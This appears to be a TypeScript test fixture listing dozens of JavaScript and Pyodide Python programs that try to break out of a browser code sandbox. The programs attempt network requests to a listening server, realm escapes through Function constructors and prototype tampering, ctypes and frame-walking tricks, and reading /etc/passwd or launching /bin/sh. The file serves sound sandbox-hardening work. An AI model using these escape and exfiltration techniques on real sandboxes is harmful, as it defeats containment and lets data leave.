// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the placeholders belong to the programs.
/**
 * Ways by which a program might leave the laboratory. Each is the text of a program; ZIEL is a listening server elsewhere, HEIM
 * an address of the site's own. None may cause a request; whether the program fails or not is its own affair.
 */
export type WaysOut = Readonly<Record<string, string>>;

const urls = 'const ZIEL = process.env.ZIEL, HEIM = process.env.HEIM;\n';
/** Tries each statement by itself, so that one that throws does not hide the next. */
const each = (...statements: readonly string[]): string =>
  urls + statements.map((s) => `try { ${s} } catch (e) { console.log(String(e)); }`).join('\n');

export const typescriptWays: WaysOut = {
  'fetch elsewhere': each('await fetch(ZIEL);'),
  'fetch at home': each('await fetch(HEIM);', "await fetch('/wartezeit/verraten');"),
  'fetch with keepalive': each("await fetch(ZIEL, { keepalive: true, mode: 'no-cors' });"),
  'Request object': each('await fetch(new Request(ZIEL));', 'await new Request(ZIEL).clone().text();'),
  'synchronous XMLHttpRequest': each("const x = new XMLHttpRequest(); x.open('GET', ZIEL, false); x.send();"),
  'XMLHttpRequest at home': each("const x = new XMLHttpRequest(); x.open('GET', HEIM, false); x.send();"),
  'prototype of XMLHttpRequest': each(
    'const P = Object.getPrototypeOf(XMLHttpRequest.prototype); const x = new P.constructor(); x.open?.("GET", ZIEL); x.send?.();',
  ),
  WebSocket: each("new WebSocket(ZIEL.replace('http', 'ws'));", "new WebSocketStream(ZIEL.replace('http', 'ws'));"),
  EventSource: each('new EventSource(ZIEL);', 'new EventSource(HEIM);'),
  WebTransport: each("new WebTransport(ZIEL.replace('http:', 'https:'));"),
  RTCPeerConnection: each("new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1' }] });"),
  'Worker at home': each('new Worker(HEIM);', "new Worker(HEIM, { type: 'module' });"),
  'Worker from a blob': each(
    "new Worker(URL.createObjectURL(new Blob([`fetch('${ZIEL}')`], { type: 'text/javascript' })));",
  ),
  'Worker from data': each('new Worker(`data:text/javascript,fetch("${ZIEL}")`);'),
  SharedWorker: each('new SharedWorker(HEIM);'),
  'service worker': each('await navigator.serviceWorker.register(HEIM);'),
  importScripts: each('importScripts(ZIEL);', 'importScripts(HEIM);'),
  'import elsewhere': each('await import(ZIEL);'),
  'import at home': each(
    'await import(HEIM);',
    "await import('/wartezeit/verraten.js');",
    "await import('./verraten.js');",
  ),
  'import without scheme': each("await import(ZIEL.replace('http:', ''));"),
  'import as JSON': each("await import(ZIEL, { with: { type: 'json' } });"),
  'import of data': each('await import(`data:text/javascript,fetch("${ZIEL}")`);'),
  'import of a blob': each(
    "await import(URL.createObjectURL(new Blob([`fetch('${ZIEL}')`], { type: 'text/javascript' })));",
  ),
  'static import': "import 'http://127.0.0.1:1/verraten.js';\nconsole.log('da');\n",
  'static export': "export * from 'http://127.0.0.1:1/verraten.js';\nconsole.log('da');\n",
  'import through eval': each("await eval('import(ZIEL)');", "await (0, eval)(`import('${ZIEL}')`);"),
  'import through Function': each(
    "await new Function('u', 'return import(u)')(ZIEL);",
    "new Function('u', 'return import(u)')(HEIM);",
  ),
  'import through AsyncFunction': each("await (async () => {}).constructor('u', 'return import(u)')(ZIEL);"),
  'import through GeneratorFunction': each("(function* () {}).constructor('u', 'yield import(u)')(ZIEL).next();"),
  'import through a timer’s text': each('setTimeout(`import("${ZIEL}")`, 0);', 'setInterval(`fetch("${ZIEL}")`, 1);'),
  'fetch through Function': each(
    "await new Function('return this')().fetch(ZIEL);",
    "await new Function('return fetch')()(ZIEL);",
  ),
  'fetch through eval': each("await (0, eval)('fetch')(ZIEL);", "await (0, eval)('self').fetch(ZIEL);"),
  'fetch on the prototypes of the global': each(
    "for (let o = globalThis; o; o = Object.getPrototypeOf(o)) for (const k of Reflect.ownKeys(o)) if (String(k).toLowerCase().includes('fetch')) { try { await o[k](ZIEL); } catch {} }",
  ),
  'deleting the replacements': each(
    'delete globalThis.fetch; await fetch(ZIEL);',
    'delete globalThis.XMLHttpRequest; new XMLHttpRequest();',
    'delete globalThis.Worker; new Worker(HEIM);',
  ),
  'walking everything reachable': each(
    `const seen = new Set(), queue = [globalThis];
     while (queue.length && seen.size < 20_000) {
       const o = queue.pop();
       if (o === null || (typeof o !== 'object' && typeof o !== 'function') || seen.has(o)) continue;
       seen.add(o);
       for (const k of Reflect.ownKeys(o)) {
         const d = Reflect.getOwnPropertyDescriptor(o, k);
         for (const v of [d?.value, d?.get, d?.set]) {
           if (typeof v === 'function' && /^(fetch|send|sendBeacon|open|importScripts|Worker|WebSocket|EventSource)$/.test(v.name) && /native code/.test(Function.prototype.toString.call(v))) {
             console.log('native', v.name);
             try { Reflect.apply(v, globalThis, [ZIEL]); } catch {}
             try { Reflect.construct(v, [HEIM]); } catch {}
           }
           queue.push(v);
         }
       }
       queue.push(Object.getPrototypeOf(o));
     }`,
  ),
  sendBeacon: each('navigator.sendBeacon(ZIEL);', 'navigator.sendBeacon(HEIM);'),
  'later fetch': each('fetchLater(ZIEL);'),
  'font face': each('await new FontFace("x", `url(${ZIEL})`).load();'),
  'image decoding': each(
    'await createImageBitmap(await (await fetch(ZIEL)).blob());',
    'new ImageDecoder({ data: ZIEL, type: "image/png" });',
  ),
  'streaming WebAssembly': each(
    'await WebAssembly.compileStreaming(fetch(ZIEL));',
    'await WebAssembly.instantiateStreaming(new Response(ZIEL));',
  ),
  caches: each("await (await caches.open('x')).add(HEIM);"),
  indexedDB: each("indexedDB.open('x');"),
  'origin private files': each('await navigator.storage.getDirectory();'),
  cookies: each("await cookieStore.set('x', 'y');"),
  BroadcastChannel: each("new BroadcastChannel('x').postMessage('hallo');"),
  'message to the page': each("postMessage({ kind: 'ended', outcome: { kind: 'completed', exitCode: 0 } });"),
  'closing the worker': each('close();', 'self.close();'),
  'Node’s modules': each(
    "await import('node:http');",
    "await import('child_process');",
    "await import('node:fs');",
    "process.getBuiltinModule('node:http').get(ZIEL);",
    "process.binding('tcp_wrap');",
    "require('http').get(ZIEL);",
  ),
  'constructors of natives': each(
    "const F = Object.getPrototypeOf(async () => {}).constructor; await F('u', 'await fetch(u)')(ZIEL);",
    "const R = Reflect.construct(Function, ['u', 'return import(u)']); await R(ZIEL);",
  ),
  'errors as a way to the realm': each(
    "try { null.x } catch (e) { e.constructor.constructor('return fetch')()(ZIEL); }",
  ),
  ShadowRealm: each("new ShadowRealm().evaluate('globalThis.fetch');"),
  'code through the constructors of what the lab gives': each(
    ...[
      'fetch',
      'console.log',
      'process.exit',
      'setTimeout',
      'queueMicrotask',
      'new XMLHttpRequest().open',
      'DOMException',
      'structuredClone',
      'AbortSignal.timeout',
      'new MessageChannel().port1.postMessage',
    ].map((made) => `(${made}).constructor('console.log("offen"); return fetch')()(ZIEL);`),
  ),
  'code through every kind of function': each(
    ...[
      'async () => {}',
      'function* () {}',
      'async function* () {}',
      'class {}',
      '(class { static async *x() {} }).x',
    ].map((kind) => `const F = Object.getPrototypeOf(${kind}).constructor; F('console.log("offen")')().next?.();`),
    `Reflect.construct(Function, ['console.log("offen")'], class {})();`,
    `Reflect.apply(Function.prototype.constructor, null, ['console.log("offen")'])();`,
    `Iterator.from([1]).constructor.constructor('console.log("offen")')();`,
    `new Intl.Segmenter('de').constructor.constructor('console.log("offen")')();`,
  ),
  'what the lab keeps in lists': each(
    `const got = []; const push = Array.prototype.push;
     Array.prototype.push = function (...a) { for (const x of a) got[got.length] = x; return Reflect.apply(push, this, a); };
     await fetch('https://api.openai.com/v1/models').catch(() => {});
     Array.prototype.push = push;
     for (const x of got) for (let o = x; o !== null && typeof o === 'object'; o = Object.getPrototypeOf(o))
       for (const k of Reflect.ownKeys(o)) if (/fetch|post|send|open/i.test(String(k))) try { x[k](ZIEL); x[k](HEIM); } catch {}`,
  ),
  'what the lab keeps in maps': each(
    `const got = []; const get = Map.prototype.get;
     Map.prototype.get = function (k) { const v = Reflect.apply(get, this, [k]); got[got.length] = v; return v; };
     await fetch('https://api.openai.com/v1/models').catch(() => {});
     Map.prototype.get = get;
     for (const x of got) for (const k of Reflect.ownKeys(Object(x))) if (typeof x[k] === 'function') try { x[k](ZIEL); } catch {}`,
  ),
  'the promises of the lab': each(
    `const then = Promise.prototype.then; const seen = [];
     Promise.prototype.then = function (...a) { seen[seen.length] = a; return Reflect.apply(then, this, a); };
     await fetch('https://api.openai.com/v1/models').catch(() => {});
     Promise.prototype.then = then;
     for (const [f] of seen) try { f(ZIEL); f.constructor('console.log("offen")')(); } catch {}`,
  ),
  'settings left on the prototypes': each(
    `Object.prototype.dispatcher = { dispatch() { console.log('offen'); } }; await fetch(ZIEL).catch(() => {}); delete Object.prototype.dispatcher;`,
    `Object.prototype.mode = 'no-cors'; await fetch(HEIM).catch(() => {}); delete Object.prototype.mode;`,
    `Object.prototype.url = ZIEL; await fetch('https://api.openai.com/v1/models').catch(() => {}); delete Object.prototype.url;`,
  ),
  'stack frames of the lab': each(
    `Error.prepareStackTrace = (_, sites) => sites.map((s) => [s.getThis?.(), s.getFunction?.()]).flat().filter((x) => x && x !== globalThis);
     const { stack } = await new Promise((r) => setTimeout(() => r(new Error()), 1));
     // A text where the engine knows no prepareStackTrace: nothing to get hold of.
     for (const x of Array.isArray(stack) ? stack : []) console.log('offen', typeof x);`,
  ),
  'a parser of addresses': each(
    "await fetch(ZIEL.replace('http://', 'http:\\\\\\\\'));",
    "await fetch(ZIEL.replace('http://', 'http://api.openai.com@'));",
    "await fetch(ZIEL.replace('127.0.0.1', '127.0.0.1.'));",
    "await fetch(ZIEL.replace('127.0.0.1', '0x7f.1'));",
    "await fetch(ZIEL.replace('127.0.0.1', '[::ffff:7f00:1]'));",
    "await fetch('https://api.openai.com.' + new URL(ZIEL).host);",
  ),
  'redirects and referrers': each(
    "await fetch('https://api.openai.com/v1/../../' + ZIEL);",
    "await fetch('https://api.openai.com/v1/models', { redirect: 'follow', referrer: ZIEL });",
    "await fetch('https://api.openai.com//' + new URL(ZIEL).host + '/verraten');",
  ),
  'import with attributes': each(
    "await import(ZIEL, { with: { type: 'text' } });",
    "await import(ZIEL, { with: { type: 'css' } });",
    'await import.meta.resolve?.(ZIEL);',
  ),
  'events made by the program': each(
    "dispatchEvent(new MessageEvent('message', { data: { kind: 'start' } }));",
    "new EventTarget().dispatchEvent(new Event('fetch')); globalThis.onfetch?.(ZIEL);",
  ),
};

const head = 'import os\nZIEL, HEIM = os.environ["ZIEL"], os.environ["HEIM"]\n';
const tried = (...lines: readonly string[]): string =>
  head +
  lines
    .map((line) => {
      const body = line.split('\n').map((part) => `    ${part}`);
      return `try:\n${body.join('\n')}\nexcept BaseException as fehler:\n    print(type(fehler).__name__, fehler)`;
    })
    .join('\n') +
  '\n';

/** A function of the lab, as Python sees it. */
const labFunction = 'import time\nlab = time.sleep.__globals__["lab"]\nf = getattr(lab, type(lab).__slots__[0])';

export const pythonWays: WaysOut = {
  'builtin modules by their own importer': tried(
    'import importlib.machinery as m\nk = m.BuiltinImporter.load_module("_pyodide_core")\nprint("offen", k)',
    'import _imp, importlib.machinery as m\nk = _imp.create_builtin(m.ModuleSpec("_pyodide_core", m.BuiltinImporter))\nprint("offen", k)',
    'import _frozen_importlib as b\nk = b._load(b.BuiltinImporter.find_spec("_pyodide_core"))\nprint("offen", k)',
  ),
  'the finders, put back': tried(
    'import sys, importlib.machinery as m\nold = sys.meta_path[:]\nsys.meta_path[:] = [m.BuiltinImporter, m.PathFinder]\ntry:\n    import _pyodide_core\n    print("offen")\nfinally:\n    sys.meta_path[:] = old',
    'import runpy\nrunpy.run_module("js")',
    'import pkgutil\npkgutil.resolve_name("js:fetch")(ZIEL)',
    'import pickle\npickle.loads(b"cjs\\nfetch\\n(V" + ZIEL.encode() + b"\\ntR.")',
  ),
  'a function’s prototype': tried(
    ...[
      'f.constructor',
      'f.constructor.constructor',
      'f.constructor.prototype.constructor',
      'f.bind.constructor',
      'f.call.constructor',
    ].map((way) => `${labFunction}\n${way}("console.log('offen')")()\nprint("offen")`),
  ),
  'Object, through a function': tried(
    `${labFunction}\nO = f.valueOf.constructor.prototype.constructor\nO("console.log('offen')")()\nprint("offen")`,
    `${labFunction}\nfor o in (f, f.constructor, f.call):\n    for k in dir(o):\n        v = getattr(o, k, None)\n        for name in ("fetch", "Worker", "importScripts", "process"):\n            if hasattr(v, name): print("offen", k, name)`,
    `${labFunction}\nprint("offen" if hasattr(f.call(None), "fetch") else "nichts")`,
  ),
  'C functions of Pyodide': tried(
    'import ctypes\nc = ctypes.CDLL(None)\nctypes.pythonapi.PyInit__pyodide_core.restype = ctypes.py_object\nk = ctypes.pythonapi.PyInit__pyodide_core()\nprint("offen", k)',
  ),
  'tracing the lab': tried(
    'import sys, time\ngot = []\nsys.settrace(lambda f, e, a: got.append(f.f_locals))\ntime.sleep(0.01)\nsys.settrace(None)\nfor names in got:\n    for v in list(names.values()):\n        if hasattr(v, "constructor"): v.constructor.constructor("console.log(\'offen\')")()',
  ),
  'further libraries': tried(
    'import xmlrpc.client\nxmlrpc.client.ServerProxy(ZIEL).x()',
    'import logging, logging.handlers\nlogging.handlers.HTTPHandler(ZIEL.split("/")[2], "/verraten").emit(logging.makeLogRecord({}))',
    'import logging.handlers\nlogging.handlers.SysLogHandler(("127.0.0.1", 514)).emit(__import__("logging").makeLogRecord({}))',
    'import urllib.request\nurllib.request.urlretrieve(ZIEL, "x")',
    'import telnetlib',
    'import poplib\npoplib.POP3("127.0.0.1", 110)',
    'import imaplib\nimaplib.IMAP4("127.0.0.1")',
    'import ensurepip\nensurepip.bootstrap()',
    'import venv\nvenv.create("x", with_pip=True)',
  ),
  'files and signals': tried(
    'print(open("/etc/passwd").read())',
    'import urllib.request\nprint(urllib.request.urlopen("file:///etc/passwd").read())',
    'import signal, os\nos.kill(os.getpid(), signal.SIGKILL)',
    'import os\nos.execv("/bin/sh", ["sh"])',
  ),
  'import js': tried('import js\njs.fetch(ZIEL)'),
  'import pyodide_js': tried('import pyodide_js\npyodide_js.runPython("1")\npyodide_js.globals'),
  run_js: tried('from pyodide.code import run_js\nrun_js(f"fetch(\'{ZIEL}\')")'),
  'pyodide.http': tried(
    'from pyodide.http import open_url\nopen_url(ZIEL)',
    'from pyodide.http import pyfetch\npyfetch(ZIEL).send(None)',
  ),
  _pyodide_core: tried('import _pyodide_core\nprint(dir(_pyodide_core))', 'import _pyodide._core_docs\n'),
  'pyodide.ffi': tried(
    'from pyodide.ffi import JsProxy, create_proxy\ncreate_proxy(print)',
    'from pyodide.ffi.wrappers import set_timeout\nset_timeout(print, 1)',
  ),
  importlib: tried('import importlib\nimportlib.import_module("js").fetch(ZIEL)', '__import__("js").fetch(ZIEL)'),
  finders: tried(
    'import sys\nfor finder in sys.meta_path:\n    spec = getattr(finder, "find_spec", lambda *a: None)("js", None)\n    print(finder, spec)\n    if spec: spec.loader.load_module("js").fetch(ZIEL)',
  ),
  'import hook of Pyodide': tried(
    'from _pyodide import _importhook\nprint(_importhook.jsfinder.jsproxies)\n_importhook.jsfinder.jsproxies["js"].fetch(ZIEL)',
  ),
  'modules that are loaded': tried(
    'import sys\nfor name, module in list(sys.modules.items()):\n    for key, value in list(vars(module).items()) if module else []:\n        if type(value).__name__ == "JsProxy":\n            print(name, key)\n            value.constructor.constructor("u", "return fetch(u)")(ZIEL)',
  ),
  'objects in memory': tried(
    'import gc\nfor o in gc.get_objects():\n    if type(o).__name__ == "JsProxy":\n        print("JsProxy", o)\n        o.constructor.constructor("u", "return import(u)")(ZIEL)\n        o.constructor.constructor("u", "return fetch(u)")(ZIEL)',
  ),
  'subclasses of object': tried(
    'for c in object.__subclasses__():\n    if "Js" in c.__name__:\n        print(c)\n        c.new(ZIEL)',
  ),
  'the seams themselves': tried(
    'import sys\nfor name in [n for n in sys.modules if n.startswith("_lab")]:\n    module = sys.modules[name]\n    for key in dir(module):\n        value = getattr(module, key)\n        for inner in [value, *(getattr(value, k, None) for k in dir(value)[:50])]:\n            if hasattr(inner, "constructor"):\n                print(name, key)\n                inner.constructor.constructor("u", "return fetch(u)")(ZIEL)',
  ),
  'ctypes run_script': tried(
    'import ctypes\nctypes.CDLL(None).emscripten_run_script(f"fetch(\'{ZIEL}\')".encode())',
    'import ctypes\nctypes.pythonapi.emscripten_run_script(f"fetch(\'{ZIEL}\')".encode())',
    'import ctypes\nprint(ctypes.CDLL(None).emscripten_fetch)',
    'import ctypes\nlib = ctypes.CDLL(None)\nlib.system(b"true")',
  ),
  'ctypes sockets': tried('import ctypes\nlib = ctypes.CDLL(None)\nfd = lib.socket(2, 1, 0)\nprint(fd)'),
  'ctypes imports': tried(
    'import ctypes\nctypes.pythonapi.PyImport_ImportModule.restype = ctypes.py_object\nctypes.pythonapi.PyImport_ImportModule(b"js").fetch(ZIEL)',
  ),
  urllib: tried(
    'import urllib.request\nurllib.request.urlopen(ZIEL)',
    'import urllib.request\nurllib.request.urlopen(HEIM)',
  ),
  'http.client': tried(
    'import http.client\nhttp.client.HTTPConnection("127.0.0.1", int(ZIEL.rsplit(":", 1)[1].split("/")[0])).request("GET", "/verraten")',
  ),
  requests: tried('import requests\nrequests.get(ZIEL)', 'import requests\nrequests.get("https://example.com/")'),
  httpx: tried('import httpx\nhttpx.get(ZIEL)'),
  aiohttp: tried(
    'import aiohttp, asyncio\nasync def main():\n    async with aiohttp.ClientSession() as s:\n        await s.get(ZIEL)\nasyncio.run(main())',
  ),
  'socket by address': tried(
    'import socket\nsocket.create_connection(("127.0.0.1", int(ZIEL.rsplit(":", 1)[1].split("/")[0])))',
  ),
  datagrams: tried(
    'import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b"x", ("127.0.0.1", 53))',
  ),
  _socket: tried(
    'import _socket\ns = _socket.socket(2, 1, 0)\ns.connect(("127.0.0.1", int(ZIEL.rsplit(":", 1)[1].split("/")[0])))',
  ),
  names: tried(
    'import socket\nprint(socket.gethostbyname("daten.example.com"))',
    'import socket\nprint(socket.getaddrinfo("abc.127.0.0.1.nip.io", 80))',
  ),
  'asyncio streams': tried(
    'import asyncio\nasyncio.run(asyncio.open_connection("127.0.0.1", int(ZIEL.rsplit(":", 1)[1].split("/")[0])))',
  ),
  'Pyodide’s event loop': tried('import pyodide.webloop\nloop = pyodide.webloop.WebLoop()\nloop.call_later(0, print)'),
  subprocess: tried(
    'import subprocess\nsubprocess.run(["curl", ZIEL])',
    'import os\nos.system("curl " + ZIEL)',
    'import os\nos.fork()',
  ),
  multiprocessing: tried('import multiprocessing\nmultiprocessing.Process(target=print).start()'),
  webbrowser: tried('import webbrowser\nwebbrowser.open(ZIEL)'),
  micropip: tried('import micropip\nmicropip.install(ZIEL)', 'import pyodide_js\npyodide_js.loadPackage(ZIEL)'),
  'mail and files': tried(
    'import smtplib\nsmtplib.SMTP("127.0.0.1", 25)',
    'import ftplib\nftplib.FTP("127.0.0.1")',
    'print(open("/proc/net/tcp").read())',
  ),
  'file system of the browser': tried(
    'import pyodide_js\npyodide_js.FS.filesystems.IDBFS',
    'import os\nos.listdir("/dev")',
  ),
  'WebAssembly imports': tried(
    'import ctypes\nctypes.CDLL("http://127.0.0.1:1/verraten.so")',
    'import ctypes\nctypes.CDLL(HEIM)',
  ),
  'replacing the seams': tried(
    'import importlib, sys\nfor n in [n for n in sys.modules if n == "socket" or n.startswith("_lab")]: del sys.modules[n]\nimport socket\nsocket.create_connection(("127.0.0.1", int(ZIEL.rsplit(":", 1)[1].split("/")[0])))',
    'import importlib, socket\nimportlib.reload(socket)\nsocket.create_connection(("127.0.0.1", int(ZIEL.rsplit(":", 1)[1].split("/")[0])))',
  ),
  'frames above the program': tried(
    'import sys\nframe = sys._getframe()\nwhile frame:\n    for key, value in [*frame.f_locals.items(), *frame.f_globals.items()]:\n        if type(value).__name__ == "JsProxy":\n            print(key)\n            value.constructor.constructor("u", "return fetch(u)")(ZIEL)\n    frame = frame.f_back',
  ),
};

/** Ways that may end the interpreter itself; each of the others is followed by the next within one program. */
const deadly = [
  'ctypes run_script',
  'ctypes sockets',
  'ctypes imports',
  'WebAssembly imports',
  'C functions of Pyodide',
  'files and signals',
];

/** Python's ways, several to a program, since each start of Python takes its time. */
export function together(ways: WaysOut, size = 9): WaysOut {
  const names = Object.keys(ways).filter((name) => !deadly.includes(name));
  const groups: Record<string, string> = {};
  for (let i = 0; i < names.length; i += size) {
    const group = names.slice(i, i + size);
    groups[group.join(', ')] = `${group.map((name) => ways[name]).join('\n')}\nprint("bis zum Ende")\n`;
  }
  return { ...groups, ...Object.fromEntries(deadly.map((name) => [name, ways[name] ?? ''])) };
}
